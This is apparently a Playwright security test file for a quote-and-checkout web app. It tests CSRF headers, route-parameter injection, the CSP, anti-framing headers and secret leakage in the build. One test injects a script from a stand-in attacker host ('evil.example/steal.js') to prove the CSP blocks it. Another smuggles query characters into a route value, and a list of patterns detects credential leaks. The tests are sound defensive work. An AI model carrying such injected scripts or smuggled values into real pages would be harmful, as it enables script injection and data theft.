// Security in the browser: the CSRF header on the requests the app really sends,
// route parameters that cannot change the API path, and on the production build the
// Content-Security-Policy in force with no violation while the app works, and no secret in dist/.
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { expect as baseExpect, test, useJourneyScenario } from './fixtures';

const expect = baseExpect.configure({ timeout: 20_000 });
test.describe.configure({ timeout: 60_000 });
const PRODUCTION_BUILD = !process.env.E2E_DEV;

// A `..` or `/` is covered through the client in tests/security/api-requests.test.ts: the dev and preview
// servers treat a last segment with a dot as a file, and the router decodes %2F before matching.
test('a ? or # in :order stays inside the order reference of the API path, with the CSRF header', async ({ page }) => {
  const apiRequests: { path: string; csrf: string | undefined }[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.pathname.startsWith('/api/') && url.pathname !== '/api/journey') apiRequests.push({ path: url.pathname + url.search, csrf: request.headers()['x-csrf-token'] });
  });
  // A regular expression: the glob **/api/** would also catch the dev server's /src/api/ modules.
  await page.route(/^https?:\/\/[^/]+\/api\/order-tracking\//, (route) => route.fulfill({ status: 404, json: { message: 'Not found' } }));
  await page.goto(`/order-track/${encodeURIComponent('ABC?pending=true&x=1#top')}`);
  await expect.poll(() => apiRequests.length).toBeGreaterThan(0);
  for (const request of apiRequests) {
    expect(request.path).toBe('/api/order-tracking/ABC%3Fpending%3Dtrue%26x%3D1%23top');
    expect(request.csrf).toBe('mock-csrf-token');
  }
});

test('every API request a journey sends carries the CSRF token from the page', async ({ page }) => {
  const missing: string[] = [];
  let seen = 0;
  page.on('request', (request) => {
    if (!new URL(request.url()).pathname.startsWith('/api/')) return;
    seen += 1;
    if (request.headers()['x-csrf-token'] !== 'mock-csrf-token') missing.push(`${request.method()} ${request.url()}`);
  });
  await page.addInitScript(() => {
    localStorage.setItem('quote-requests', JSON.stringify([{ type: 'boiler', quoteId: 'QTEST1', body: { quoteType: 'boiler', postcode: 'LS6 2AB' }, savedAt: Date.now() }]));
    localStorage.setItem('save-quote-dismissed:QTEST1', '1');
  });
  await useJourneyScenario(page, 'homeowner');
  await page.goto('/quote/boiler/results/QTEST1');
  await expect(page.locator('[data-product-id]').first()).toBeVisible();
  expect(seen).toBeGreaterThanOrEqual(3); // results, both lenders' lists, the journey record
  expect(missing).toEqual([]);
});

test.describe('production build', () => {
  test.skip(!PRODUCTION_BUILD, 'the CSP and dist/ exist only in a production build (run without E2E_DEV)');

  test('the Content-Security-Policy is in force and the app works under it without a violation', async ({ page }) => {
    await page.addInitScript(() => {
      (window as unknown as { cspViolations: string[] }).cspViolations = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        (window as unknown as { cspViolations: string[] }).cspViolations.push(`${event.violatedDirective} ${event.blockedURI}`);
      });
      localStorage.setItem('quote-requests', JSON.stringify([{ type: 'boiler', quoteId: 'QTEST1', body: { quoteType: 'boiler', postcode: 'LS6 2AB' }, savedAt: Date.now() }]));
      localStorage.setItem('save-quote-dismissed:QTEST1', '1');
    });
    await useJourneyScenario(page, 'homeowner');
    await page.goto('/');
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    // Our files, the page's one inline script (the landing preload, decision 963) by its hash, Stripe.js.
    expect(policy).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/]{43}=' https:\/\/js\.stripe\.com;/);
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
    await page.goto('/quote/boiler/results/QTEST1');
    await expect(page.locator('[data-product-id]').first()).toBeVisible();
    await page.goto('/quote/ev');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    // The inline preload ran under the policy: the EV questionnaire's chunks were asked for from the HTML.
    const preloaded = await page.locator('link[rel="modulepreload"]').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(preloaded).toEqual(expect.arrayContaining([expect.stringMatching(/\/questionnaire-[\w-]+\.js$/), expect.stringMatching(/\/ev-[\w-]+\.js$/)]));
    // The policy really blocks: a script from another host is refused and reported.
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.head.append(script);
    });
    // Once per policy in force: the page's <meta> and the host's header each refuse it.
    await expect.poll(() => page.evaluate(() => [...new Set((window as unknown as { cspViolations: string[] }).cspViolations)])).toEqual([
      'script-src-elem https://evil.example/steal.js',
    ]);
  });

  test('the host headers of dist/_headers are served: CSP with frame-ancestors and a report endpoint, HSTS, caching', async ({ page }) => {
    const shipped = readFileSync(join(process.cwd(), 'dist', '_headers'), 'utf8');
    const answer = await page.request.get('/checkout/aircon');
    const headers = answer.headers();
    // The same policy the production host configuration carries, byte for byte.
    expect(shipped).toContain(`Content-Security-Policy: ${headers['content-security-policy']}\n`);
    const html = await answer.text();
    const metaPolicy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1]?.replaceAll('&#39;', "'");
    expect(headers['content-security-policy']).toBe(`${metaPolicy}; frame-ancestors 'none'; report-uri /api/csp-report; report-to csp`);
    expect(headers['reporting-endpoints']).toBe('csp="/api/csp-report"');
    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8,}; includeSubDomains$/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['cache-control']).toBe('no-cache');
    const script = /<script type="module" crossorigin src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1];
    expect(script).toBeDefined();
    const asset = await page.request.get(script!);
    expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(asset.headers()['x-content-type-options']).toBe('nosniff');
  });

  test('another site cannot frame the checkout', async ({ page, baseURL }) => {
    // Another origin on this machine: localhost rather than 127.0.0.1 (Chromium keeps public sites
    // from framing local addresses on its own), on an answer the host headers do not cover (/api).
    const otherSite = `http://localhost:${new URL(baseURL!).port}/api/not-a-page`;
    const checkout = `${baseURL}/checkout/aircon`;
    const unprotected = `${baseURL}/api/also-not-a-page`;
    await page.goto(otherSite);
    const refused = page.waitForEvent('requestfailed', { predicate: (request) => request.url() === checkout, timeout: 15_000 });
    await page.evaluate((sources) => {
      for (const src of sources) document.body.append(Object.assign(document.createElement('iframe'), { src }));
    }, [checkout, unprotected]);
    expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
    // The same browser frames a cross-origin answer without those headers: the refusal is the headers'.
    await expect.poll(() => page.frames().map((frame) => frame.url())).toEqual([otherSite, 'chrome-error://chromewebdata/', unprotected]);
  });

  test('robots.txt, the favicon set, the web app manifest and the Open Graph tags are real', async ({ page }) => {
    const robots = await page.request.get('/robots.txt');
    expect(robots.headers()['content-type']).toMatch(/^text\/plain/);
    expect(await robots.text()).toMatch(/^User-agent: \*$[\s\S]*^Disallow: \/checkout\/$/m);
    await page.goto('/');
    const head = page.locator('head');
    const hrefs = await head.locator('link[rel="icon"], link[rel="apple-touch-icon"], meta[property="og:image"]').evaluateAll((nodes) =>
      nodes.map((node) => node.getAttribute('href') ?? node.getAttribute('content') ?? ''),
    );
    // PNGs only: Chromium fetches the page's icon again at each change of address, and an SVG is a document to parse (decision 965).
    expect(hrefs).toEqual(['/favicon-32.png', '/apple-touch-icon.png', '/og-image.png']);
    for (const href of hrefs) {
      const icon = await page.request.get(href);
      expect(icon.status(), href).toBe(200);
      expect(icon.headers()['content-type'], href).toMatch(/^image\/png$/);
    }
    const manifestHref = await head.locator('link[rel="manifest"]').getAttribute('href');
    const manifest = (await (await page.request.get(manifestHref!)).json()) as { name: string; icons: { src: string; sizes: string }[] };
    expect(manifest.name).toMatch(/\S/);
    expect(manifest.icons.map((icon) => icon.sizes)).toEqual(expect.arrayContaining(['192x192', '512x512']));
    for (const icon of manifest.icons) expect((await page.request.get(icon.src)).status(), icon.src).toBe(200);
    for (const property of ['og:title', 'og:description', 'og:type', 'og:image', 'og:locale']) {
      await expect(head.locator(`meta[property="${property}"]`), property).toHaveAttribute('content', /\S/);
    }
  });

  test('no secret is in the built files', () => {
    const dist = join(process.cwd(), 'dist');
    const files = (function walk(dir: string): string[] {
      return readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? walk(join(dir, name)) : [join(dir, name)]));
    })(dist).filter((file) => /\.(js|html|css|json|txt|map)$|_headers$/.test(file) && !file.endsWith('.map'));
    expect(files.length).toBeGreaterThan(5);
    const SECRETS: ReadonlyArray<[string, RegExp]> = [
      ['Stripe secret key', /\b[sr]k_(live|test)_[0-9a-zA-Z]{10,}/],
      ['private key', /-----BEGIN [A-Z ]*PRIVATE KEY-----/],
      ['AWS access key', /\b(AKIA|ASIA)[0-9A-Z]{16}\b/],
      ['Sentry auth token', /\bsntrys_[A-Za-z0-9+/=_-]{20,}|\bsntryu_[0-9a-f]{64}\b/],
      ['GitHub token', /\bgh[pousr]_[A-Za-z0-9]{36}\b/],
      ['Google API key', /\bAIza[0-9A-Za-z_-]{35}\b/],
    ];
    const found = files.flatMap((file) => {
      const text = readFileSync(file, 'utf8');
      return SECRETS.filter(([, pattern]) => pattern.test(text)).map(([name]) => `${name} in ${file}`);
    });
    expect(found).toEqual([]);
    // The dev-only response check (and the contract it reads) stays out of the build.
    const bundle = files.filter((file) => file.endsWith('.js')).map((file) => readFileSync(file, 'utf8')).join('\n');
    expect(bundle).not.toContain('does not match the API contract');
    expect(bundle).not.toContain('openapi: 3.1.0');
  });
});
